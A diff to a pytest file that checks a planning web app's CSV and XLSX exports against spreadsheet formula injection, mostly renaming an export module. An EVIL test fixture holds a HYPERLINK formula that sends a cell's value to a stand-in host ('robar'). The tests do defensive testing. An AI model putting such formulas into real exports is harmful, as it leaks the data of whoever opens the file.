@@ -11,9 +11,10 @@ import pytest
 from openpyxl import load_workbook
 
 from dashboards.tests.helpers import ROLES, user_with_role
-from plan import exports
-from plan.exports import TEXT, Column
+from opendata import writers
+from opendata.writers import TEXT, Column
 from reporting.tests.conftest import open_cutoff, people  # noqa: F401 - fixtures
+from tests.downloads import content
 
 EVIL = {
     "=": '=HYPERLINK("http://example.com/robar?d="&A1,"Ver")',
@@ -54,21 +55,21 @@ def assert_xlsx_neutralised(content: bytes, texts):
 
 @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
 def test_csv_safe_prefixes_every_formula_start(start):
-    assert exports.csv_safe(f"{start}1") == f"'{start}1"
+    assert writers.csv_safe(f"{start}1") == f"'{start}1"
 
 
 @pytest.mark.parametrize("text", ["Bogotá", "4.155.036", "", "a=b", " =1"])
 def test_csv_safe_leaves_other_texts_alone(text):
-    assert exports.csv_safe(text) == text
+    assert writers.csv_safe(text) == text
 
 
 def test_the_generic_exports_protect_text_columns_and_leave_numbers_alone():
-    columns = [Column("nombre", "Nombre"), Column("valor", "Valor", exports.MAGNITUDE)]
+    columns = [Column("nombre", "Nombre"), Column("valor", "Valor", writers.MAGNITUDE)]
     rows = [{"nombre": text, "valor": D("-5")} for text in EVIL.values()]
-    content = exports.csv_bytes(columns, rows)
+    content = writers.csv_bytes(columns, rows)
     assert_csv_neutralised(content, EVIL.values())
     assert csv_cells(content).count("-5") == len(EVIL)  # a negative number is not prefixed
-    book = exports.xlsx_bytes(columns, rows)
+    book = writers.xlsx_bytes(columns, rows)
     assert_xlsx_neutralised(book, EVIL.values())
     numbers = [c for c in xlsx_cells(book) if c.column == 2 and c.row > 1]
     assert {(c.value, c.data_type) for c in numbers} == {(-5, "n")}
@@ -102,8 +103,8 @@ def test_open_data_downloads(client, evil_pes, fmt):
     indicators = client.get(f"{base}indicadores.{fmt}")
     assert objectives.status_code == indicators.status_code == 200
     check = assert_csv_neutralised if fmt == "csv" else assert_xlsx_neutralised
-    check(objectives.content, [EVIL["="]])
-    check(indicators.content, [EVIL["+"]])
+    check(content(objectives), [EVIL["="]])
+    check(content(indicators), [EVIL["+"]])
 
 
 @pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@@ -112,7 +113,7 @@ def test_the_directors_indicator_table_export(client, evil_pes, fmt):
     response = client.get(f"/tablero/pes-2024-2027/indicadores/?exportar={fmt}")
     assert response.status_code == 200
     check = assert_csv_neutralised if fmt == "csv" else assert_xlsx_neutralised
-    check(response.content, [EVIL["+"]])
+    check(content(response), [EVIL["+"]])
 
 
 def test_the_follow_up_workbook_keeps_its_own_formulas_and_round_trips(
@@ -169,7 +170,7 @@ def test_the_risk_register_export(client, evil_risks):
     client.force_login(planning_user())
     response = client.get("/riesgos/registro/exportar/?vigencia=2025")
     assert response.status_code == 200
-    assert_xlsx_neutralised(response.content, [EVIL["="], EVIL["@"], EVIL["+"]])
+    assert_xlsx_neutralised(content(response), [EVIL["="], EVIL["@"], EVIL["+"]])
 
 
 @pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@@ -182,7 +183,7 @@ def test_the_public_corruption_map_downloads(client, evil_risks, fmt):
     )
     assert response.status_code == 200
     check = assert_csv_neutralised if fmt == "csv" else assert_xlsx_neutralised
-    check(response.content, corruption)
+    check(content(response), corruption)
 
 
 @pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@@ -190,7 +191,7 @@ def test_the_accountability_open_data(client, acc_evil, fmt):
     response = client.get(f"/rendicion-de-cuentas/datos-abiertos/preguntas.{fmt}")
     assert response.status_code == 200
     check = assert_csv_neutralised if fmt == "csv" else assert_xlsx_neutralised
-    check(response.content, [EVIL["="], EVIL["-"]])
+    check(content(response), [EVIL["="], EVIL["-"]])
 
 
 @pytest.fixture
